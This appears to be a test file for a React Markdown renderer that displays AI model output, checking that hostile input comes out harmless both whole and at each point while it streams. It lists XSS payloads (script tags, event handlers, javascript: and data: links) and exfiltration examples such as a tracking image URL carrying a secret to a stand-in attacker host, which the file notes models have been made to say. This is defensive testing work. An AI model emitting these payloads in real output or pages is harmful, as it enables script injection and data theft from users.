import { render } from "@testing-library/react";
import { IntlProvider } from "use-intl";
import { describe, expect, it } from "vitest";
import en from "../messages/en";
import { Markdown } from "./markdown";

const show = (text: string, live = false) => (
  <IntlProvider locale="en" messages={en}>
    <Markdown text={text} live={live} />
  </IntlProvider>
);

/** What models have been made to say elsewhere. */
const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![track](https://evil.example/p.png?secret=1)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[click](javascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox)",
  "<a href='javascript:alert(1)'>x</a>",
  "[a]: javascript:alert(1)\n\n[a]",
  "<svg/onload=alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  "<style>@import 'https://evil.example'</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  '[x](https://ok.example "onmouseover=alert(1)")',
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  "<form action=https://evil.example><input name=q></form>",
  "https://evil.example/auto javascript:alert(1)",
  "<https://evil.example/auto>",
  "[![pixel](https://evil.example/a.png)](javascript:alert(2))",
];

function assertHarmless(container: HTMLElement) {
  expect(
    container.querySelector(
      "script, img, iframe, style, svg, form, input, object, embed, link, video, audio, source, base, meta",
    ),
  ).toBeNull();
  for (const element of container.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name.startsWith("on"), `${element.tagName} ${name}`).toBe(false);
      expect(name === "src" || name === "srcset" || name === "style", `${element.tagName} ${name}`).toBe(false);
      if (name === "href") {
        expect(value).toMatch(/^(https?:|mailto:|#|\/|[\w.]+)/);
        expect(value).not.toMatch(/^\s*(javascript|data|vbscript):/i);
        expect(element.getAttribute("rel")).toContain("noopener");
        expect(element.getAttribute("rel")).toContain("noreferrer");
      }
    }
  }
}

describe("model output", () => {
  it.each(hostile)("is harmless when whole: %s", (text) => {
    assertHarmless(render(show(text)).container);
  });

  it.each(hostile)("is harmless at every point of streaming: %s", (text) => {
    const view = render(show("", true));
    for (let end = 1; end <= text.length; end++) {
      view.rerender(show(text.slice(0, end), true));
      assertHarmless(view.container);
    }
  });

  it("names a picture and links to it instead of loading it", () => {
    const { container } = render(show("![a cat](https://example.com/cat.png)"));
    const link = container.querySelector("a");
    expect(link?.textContent).toBe("Image: a cat");
    expect(link?.getAttribute("href")).toBe("https://example.com/cat.png");
  });

  it("shows tables, code and lists", () => {
    const { container } = render(
      show("| a | b |\n|---|---|\n| 1 | 2 |\n\n```go\nx := 1\n```\n\n- one\n- [x] two\n\n~~gone~~"),
    );
    expect(container.querySelectorAll("td").length).toBe(2);
    expect(container.querySelector("pre code")?.textContent).toBe("x := 1\n");
    expect(container.querySelectorAll("li").length).toBe(2);
    expect(container.querySelector("del")?.textContent).toBe("gone");
  });

  it("closes what is still open while it streams, and not afterwards", () => {
    expect(render(show("so **bold", true)).container.querySelector("strong")?.textContent).toBe("bold");
    expect(render(show("so **bold")).container.querySelector("strong")).toBeNull();
  });

  it("parses only the last block again", () => {
    const text = "first\n\nsecond\n\nthird";
    const view = render(show(text, true));
    const before = view.container.querySelectorAll(".mdblock");
    view.rerender(show(`${text} and more`, true));
    const after = view.container.querySelectorAll(".mdblock");
    expect(after[0]?.firstChild).toBe(before[0]?.firstChild);
    expect(after[2]?.textContent).toContain("third and more");
  });
});
